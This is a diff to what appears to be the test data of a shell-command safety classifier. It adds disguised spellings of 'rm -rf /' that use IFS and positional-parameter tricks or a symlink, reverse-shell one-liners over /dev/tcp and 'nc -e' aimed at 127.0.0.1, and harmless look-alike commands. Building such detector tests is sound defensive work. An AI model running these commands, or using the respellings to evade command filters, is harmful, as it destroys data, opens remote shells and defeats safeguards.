@@ -24,6 +24,25 @@ RESPELLINGS: dict[str, list[tuple[str, str]]] = {
         ("rm${IFS:0:1}-rf${IFS:0:1}/", "recursive-delete-root"),
         ("rm${IFS}-rf${IFS}$HOME", "recursive-delete-root"),
         ("sh -c 'rm${IFS}-rf${IFS}/'", "recursive-delete-root"),
+        # empty positional parameters glued on: the grammar splits these where bash does not
+        ("rm$IFS$9-rf$IFS$9/", "recursive-delete-root"),
+        ("rm$IFS-rf$IFS$9/", "recursive-delete-root"),
+        ("rm$IFS-rf$IFS/$9", "recursive-delete-root"),
+        ("rm${IFS}-rf${IFS}$@/", "recursive-delete-root"),
+        ("rm -rf $9/", "recursive-delete-root"),
+    ],
+    "links through another spelling": [
+        ("ln -s / -- x; rm -rf x/", "recursive-delete-root"),
+        ("ln -s / /tmp/x; cd /tmp; rm -rf x/", "recursive-delete-root"),
+    ],
+    "commands read from a connection": [
+        ("exec 5<>/dev/tcp/127.0.0.1/9; cat <&5 | sh >&5", "reverse-shell"),
+        ("exec 5<>/dev/tcp/127.0.0.1/9; cat <&5 | sh", "reverse-shell"),
+        ("while read l; do $l; done < /dev/tcp/127.0.0.1/9", "reverse-shell"),
+        ("while read -r c; do eval \"$c\"; done < /dev/tcp/127.0.0.1/9", "reverse-shell"),
+        ("source /dev/stdin < /dev/tcp/127.0.0.1/9", "reverse-shell"),
+        ("nc.traditional -e /bin/sh 127.0.0.1 9", "reverse-shell"),
+        ("nc.openbsd -e sh 127.0.0.1 9", "reverse-shell"),
     ],
     "brace command word": [
         ("{rm,-rf,/}", "recursive-delete-root"),
@@ -146,6 +165,8 @@ NEW_CLASSES: dict[str, list[str]] = {
 }
 
 LOOK_ALIKES = [
+    "while read l; do echo \"$l\"; done < /dev/tcp/127.0.0.1/9", "exec 3<>/dev/tcp/127.0.0.1/9; cat <&3 | less",
+    "rm -rf \"$1/build\"", "echo $IFS$9 done", "ln -s /tmp/a /tmp/x; cd /tmp; rm -rf x/", "nc.openbsd -z 127.0.0.1 9",
     # respellings' look-alikes
     "echo '{rm,-rf,/}'", "echo {rm,-rf,/}", 'echo "rm${IFS}-rf${IFS}/"', "printf '%s' \"$IFS\" | od -c", "echo {a,~}",
     "rm >/dev/null -rf ./build", "git diff > /dev/null -- a", "echo ok 2>&1 >/dev/null",
